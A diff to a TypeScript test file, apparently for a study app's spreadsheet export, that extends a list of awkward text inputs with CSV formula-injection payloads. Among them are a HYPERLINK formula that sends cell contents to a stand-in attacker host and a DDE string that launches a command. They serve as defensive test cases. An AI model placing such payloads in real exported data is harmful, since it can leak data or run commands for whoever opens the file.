@@ -41,8 +41,24 @@ const json = async <T>(res: Response, schema: { parse: (v: unknown) => T }, stat
 const uniqueName = () => `test_${crypto.randomUUID().slice(0, 8)}`;
 const rows = async (sql: string, ...binds: unknown[]) => (await env.DB.prepare(sql).bind(...binds).all<Record<string, unknown>>()).results;
 
-/** Texts a spreadsheet or a naive writer would break: separators, quotes, line breaks, Japanese, a tab, a formula. */
-const AWKWARD = ['comma, inside', 'a "quoted" word', 'two\nlines\nand more', '日本語の理由です', 'tab\there', '=SUM(A1:A2)'];
+/**
+ * Texts a spreadsheet or a naive writer would break: separators, quotes, line breaks, Japanese, a
+ * tab, formulas, and formulas followed by more lines (a check that reads only to the first line
+ * break, as papaparse's own does, lets those through).
+ */
+const AWKWARD = [
+  'comma, inside',
+  'a "quoted" word',
+  'two\nlines\nand more',
+  '日本語の理由です',
+  'tab\there',
+  '=SUM(A1:A2)',
+  '=HYPERLINK("https://attacker.example/?"&A1,"open")\nthe rest of my reason',
+  '+cmd|\' /C calc\'!A0\nsecond line',
+  '@SUM(1+1)\n',
+  '-2+3\nminus',
+  '\t=1+1\nafter a tab',
+];
 
 /** A consented participant whose first pre-experiment answers carry the awkward reasons. */
 async function participantWithAwkwardAnswers() {
